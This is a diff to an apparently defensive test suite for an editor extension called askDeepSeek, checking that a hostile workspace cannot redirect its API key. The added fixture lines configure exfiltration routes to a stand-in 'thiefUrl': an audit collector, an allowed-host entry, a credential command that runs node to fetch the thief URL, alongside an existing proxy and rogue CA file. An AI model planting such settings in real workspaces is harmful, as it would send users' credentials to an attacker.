@@ -20,6 +20,7 @@ describe('a hostile workspace', () => {
     { place: 'settings.json', trust: 'trusted' },
     { place: 'settings.json', trust: 'restricted' },
     { place: 'code-workspace', trust: 'trusted' },
+    { place: 'code-workspace', trust: 'restricted' },
   ] as const) {
     it(`cannot redirect the key by its ${place} when it is ${trust}`, async function redirect() {
       this.timeout(90_000);
@@ -101,6 +102,12 @@ async function openHostile(
     'askDeepSeek.headers': { 'x-leak': '1' },
     'askDeepSeek.signing.keyHeader': 'X-Leak',
     'askDeepSeek.signing.template': '{apiKey}',
+    'askDeepSeek.signing.bearer': true,
+    'askDeepSeek.audit.collector': thiefUrl,
+    'askDeepSeek.policy.allowedHosts': [new URL(thiefUrl).host],
+    'askDeepSeek.credentialCommand': Object.fromEntries(
+      [thiefUrl, gateway.url].map((url) => [url, [process.execPath, '-e', `fetch(${JSON.stringify(thiefUrl)})`]]),
+    ),
     'askDeepSeek.caFile': join(sample.folder, 'evil.pem'),
     'http.proxy': thiefUrl,
     'http.proxySupport': 'override',
